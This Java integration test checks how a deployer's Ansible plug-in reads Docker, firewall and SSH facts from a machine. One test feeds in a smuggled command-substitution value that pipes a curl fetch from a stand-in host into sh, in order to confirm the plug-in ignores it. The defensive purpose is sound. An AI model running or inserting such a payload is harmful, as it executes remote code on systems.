package com.torrust.deployer.adapters.ansible;

import static org.junit.jupiter.api.Assertions.assertEquals;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.torrust.deployer.testkit.fake.ScriptedCommandRunner;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What the playbook's own plug-in makes of what it finds on a machine, asked by a real Python. */
final class JudgeIT {

  private static final String DOCKER =
      "{\"ServerVersion\": \"26.1.5\", \"SecurityOptions\": [], \"ClientInfo\": {\"Plugins\":"
          + " [{\"Name\": \"compose\", \"Version\": \"2.26.1\"}]}}";

  @TempDir Path folder;

  @Test
  void namesWhatStandsInTheWayOfTheStack() {
    Map<String, Map<String, String>> obstacles =
        Map.ofEntries(
            Map.entry("", Map.of()),
            Map.entry(
                "configure.docker_without_firewall",
                Map.of("docker_command", "/usr/sbin/dockerd\n--iptables=false")),
            Map.entry(
                "configure.docker_settings_invalid", Map.of("docker_settings", "{\"debug\": ")),
            Map.entry(
                "configure.docker_address_pools",
                Map.of(
                    "docker_settings",
                    "{\"default-address-pools\": [{\"base\": \"10.200.0.0/24\", \"size\": 24}]}")),
            Map.entry(
                "configure.docker_is_podman",
                Map.of("docker_program", "/usr/bin/docker\n/usr/bin/podman\npodman version 5")),
            Map.entry(
                "configure.docker_from_snap",
                Map.of("docker_program", "/snap/bin/docker\n/usr/bin/snap\nDocker version 26")),
            Map.entry(
                "configure.docker_rootless",
                Map.of("docker_daemon", DOCKER.replace("[]", "[\"name=rootless\"]"))),
            Map.entry(
                "configure.docker_too_old",
                Map.of("docker_daemon", DOCKER.replace("26.1.5", "20.10.24"))),
            Map.entry(
                "configure.service_masked",
                Map.of("units", "Id=docker.service\nLoadState=masked\nActiveState=inactive")),
            Map.entry("machine.architecture_unsupported", Map.of("architecture", "riscv64")));
    obstacles.forEach(
        (code, found) -> assertEquals(code, answer(found, Map.of()).get(0), found::toString));
  }

  @Test
  void offersNothingThatTheMachineNamedAndWorksOutNoPowerOfWhatItSays() {
    String unit = "Id=docker.$(curl${IFS}evil.invalid|sh)\nLoadState=masked";
    assertEquals("", answer(Map.of("units", unit), Map.of()).get(0));
    assertEquals(
        "",
        answer(
                Map.of(
                    "docker_settings",
                    "{\"default-address-pools\": [{\"base\": \"10.0.0.0/8\", \"size\":"
                        + " 99999999999}]}"),
                Map.of())
            .get(0));
  }

  @Test
  void givesDockerWhatIpv6NeedsUnlessThatWouldStopOthers() {
    Map<String, Object> serving = Map.of("serves_ipv6", true);
    String running = "others 0.0.0.0:80->80/tcp";
    assertEquals(
        List.of("", "{'experimental': True, 'ip6tables': True}"),
        answer(Map.of(), serving).subList(0, 2));
    assertEquals(
        List.of("", "{}"),
        answer(Map.of("docker_daemon", DOCKER.replace("26.1.5", "28.3.3")), serving).subList(0, 2));
    assertEquals(
        "configure.docker_restart_needed", answer(Map.of("containers", running), serving).get(0));
    assertEquals(
        "",
        answer(Map.of("containers", running), Map.of("serves_ipv6", true, "restart_docker", true))
            .get(0));
    assertEquals(
        "configure.docker_without_firewall",
        answer(Map.of("docker_settings", "{\"ip6tables\": false}"), serving).get(0));
  }

  @Test
  void namesWhatAFirewallClosesAndKeepsSshAsNarrowAsItIs() {
    List<String> answer =
        answer(
            Map.of(
                "listening",
                "tcp LISTEN 0 5 0.0.0.0:8088 0.0.0.0:* users:((\"python3\",pid=1,fd=3))\n"
                    + "udp UNCONN 0 0 127.0.0.53%lo:53 0.0.0.0:*\ntcp LISTEN 0 5 [::]:22 [::]:*",
                "bridges",
                "docker0\nbr-lan\nbr-0123456789ab",
                "networks",
                "site_default 0123456789ab",
                "ufw_added",
                "ufw allow from 192.168.0.0/16 to any port 22 proto tcp"),
            Map.of());
    assertEquals("['8088/tcp (python3)', 'guests behind br-lan']", answer.get(2));
    assertEquals("['allow from 10.0.0.1 to any port 22 proto tcp']", answer.get(3));
    for (String wide : List.of("ufw limit OpenSSH", "ufw allow 20:30/tcp", "ufw allow 22,80/tcp")) {
      assertEquals("[]", answer(Map.of("ufw_added", wide), Map.of()).get(3), wide);
    }
    assertEquals("['allow 22/tcp']", answer(Map.of(), Map.of()).get(3));
  }

  private List<String> answer(Map<String, String> found, Map<String, Object> arguments) {
    Map<String, String> texts = new HashMap<>();
    texts.put("system", "ID=debian\nVERSION_ID=\"13\"\nPRETTY_NAME=\"Debian 13\"");
    texts.put("python", "");
    texts.put("architecture", "x86_64");
    texts.put("login", "10.0.0.1 50000 10.0.0.2 22");
    texts.put("docker_program", "/usr/bin/docker\n/usr/bin/docker\nDocker version 26");
    texts.put("docker_daemon", DOCKER);
    texts.put("ipv6", "");
    texts.putAll(found);
    Map<String, Object> facts = new HashMap<>();
    texts.forEach((name, text) -> facts.put(name, Map.of("rc", 0, "stdout", text, "stderr", "")));
    Map<String, Object> asked = new HashMap<>(arguments);
    asked.putAll(
        Map.of(
            "machine",
            facts,
            "origin",
            "debian",
            "project",
            "torrust-demo",
            "ssh_ports",
            List.of("22"),
            "public_ports",
            List.of("6969/udp")));
    return ask(asked);
  }

  private List<String> ask(Map<String, Object> asked) {
    Assumptions.assumeTrue(
        Files.isExecutable(Path.of("/usr/bin/python3")), "no /usr/bin/python3 for this lane");
    try (InputStream script = JudgeIT.class.getResourceAsStream("/judge/ask.py")) {
      Path playbook = Bench.in(folder, new ScriptedCommandRunner()).playbook();
      Path ask = folder.resolve("ask.py");
      Files.write(ask, script.readAllBytes());
      Path input = Files.writeString(folder.resolve("input"), json(asked));
      MachineLane.Outcome outcome =
          MachineLane.start(
              List.of(
                  "sh",
                  "-c",
                  "exec /usr/bin/python3 \"$1\" \"$2\" <\"$3\"",
                  "sh",
                  ask.toString(),
                  playbook.toString(),
                  input.toString()));
      assertEquals(0, outcome.code(), outcome::output);
      return outcome.output().lines().toList();
    } catch (IOException failure) {
      throw new UncheckedIOException(failure);
    }
  }

  private static String json(Object value) {
    try {
      return new ObjectMapper().writeValueAsString(value);
    } catch (JsonProcessingException impossible) {
      throw new IllegalStateException(impossible);
    }
  }
}
